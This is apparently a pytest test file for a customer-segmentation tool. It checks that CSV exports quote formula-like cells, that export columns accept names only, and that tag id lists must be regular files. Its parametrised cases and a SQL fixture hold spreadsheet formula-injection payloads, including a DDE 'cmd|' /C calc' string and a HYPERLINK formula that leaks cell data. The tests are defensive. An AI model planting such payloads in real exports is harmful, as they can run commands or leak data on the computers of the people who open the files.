"""What leaves the workspace is safe to open: an exported CSV's text cells that a spreadsheet would
run as formulas are quoted (values from the shop's data, here through a SQL tag), ``--columns`` takes
names only, and a tag file's id list must be a regular file."""

from __future__ import annotations

import contextlib
import os
import threading
from pathlib import Path

import pandas as pd
import pytest

from segmark.core.audience.cells import formula_like, quote_formulas
from segmark.errors import ConfigError, InputError
from segmark.pipeline.audience import create_audience, export_audience
from segmark.pipeline.tags import apply_tags


@pytest.mark.parametrize(("value", "quoted"), [
    ("=1+2", True), ("+SUM(A1)", True), ("-2+3+cmd|' /C calc'!A0", True), ("@SUM(1+1)", True),
    ("\t=1", True), ("\r=1", True), ("=HYPERLINK(\"http://x/?\"&A1)", True),
    ("-5", False), ("+3.2", False), ("-1e5", False), ("u1", False), ("上海", False), ("a=b", False), ("", False),
    (None, False), (5, False),
])
def test_formula_like_cells(value: object, quoted: bool) -> None:
    assert formula_like(value) is quoted


def test_quote_formulas_prefixes_text_cells_only() -> None:
    frame = pd.DataFrame({"user_id": ["u1", "=u2", "-7"], "n": [1, -2, 3], "city": ["上海", None, "@x"]})
    out, count = quote_formulas(frame)
    assert count == 2
    assert out["user_id"].tolist() == ["u1", "'=u2", "-7"]
    assert out["city"].iloc[0] == "上海" and pd.isna(out["city"].iloc[1]) and out["city"].iloc[2] == "'@x"
    assert out["n"].tolist() == [1, -2, 3]
    assert frame["user_id"].tolist() == ["u1", "=u2", "-7"]  # the input is left as it was


TAGS = """\
version: 1
groups:
  - group: g
    tags:
      - tag: note
        kind: sql
        sql: >
          SELECT user_id, CASE user_id WHEN 'u1' THEN '=cmd|'' /C calc''!A0' WHEN 'u2' THEN '-5'
          ELSE 'plain' END AS value FROM users
"""


def test_csv_export_quotes_formula_cells_and_parquet_keeps_them(hand_ws, tmp_path: Path) -> None:
    (tmp_path / "tags.yaml").write_text(TAGS, encoding="utf-8")
    apply_tags(hand_ws, tmp_path / "tags.yaml")
    create_audience(hand_ws, "everyone", "frequency >= 0")
    r = export_audience(hand_ws, "everyone", tmp_path / "a.csv", columns=["note"], min_size=1)
    assert r["users"] == 8 and r["quoted_cells"] == 1
    df = pd.read_csv(tmp_path / "a.csv", dtype=str).set_index("user_id")
    assert df.loc["u1", "note"] == "'=cmd|' /C calc'!A0"
    assert df.loc["u2", "note"] == "-5" and df.loc["u3", "note"] == "plain"
    r = export_audience(hand_ws, "everyone", tmp_path / "a.parquet", columns=["note"], min_size=1)
    assert r["quoted_cells"] == 0
    assert pd.read_parquet(tmp_path / "a.parquet").set_index("user_id").loc["u1", "note"] == "=cmd|' /C calc'!A0"


def test_columns_are_names_not_conditions(hand_ws, tmp_path: Path) -> None:
    create_audience(hand_ws, "everyone", "frequency >= 0")
    with pytest.raises(InputError, match="give names only"):
        export_audience(hand_ws, "everyone", tmp_path / "a.csv", columns=["age > 1 OR city"], min_size=1)
    assert not (tmp_path / "a.csv").exists()


def _unblock(fifo: Path) -> None:
    """Open the pipe for writing and close it, so that a reader sees its end (no reader: nothing)."""
    with contextlib.suppress(OSError):
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))


@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_an_id_list_must_be_a_regular_file(hand_ws, tmp_path: Path, kind: str) -> None:
    target = tmp_path / "ids"
    if kind == "folder":
        target.mkdir()
    else:
        os.mkfifo(target)  # reading it would block until a writer came: one comes after 10 s, so that
        # a regression fails (the list would read as empty) instead of hanging the suite
        timer = threading.Timer(10, _unblock, [target])
        timer.daemon = True
        timer.start()
    path = tmp_path / "tags.yaml"
    line = "      - {tag: t, kind: list, file: ids}"
    path.write_text(f"version: 1\ngroups:\n  - group: g\n    tags:\n{line}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="is not a regular file") as info:
        apply_tags(hand_ws, path)
    assert f"{path}, line 5, column {line.index('ids') + 1}:" in str(info.value)
    assert hand_ws.store.scalar("SELECT count(*) FROM user_tags") == 0
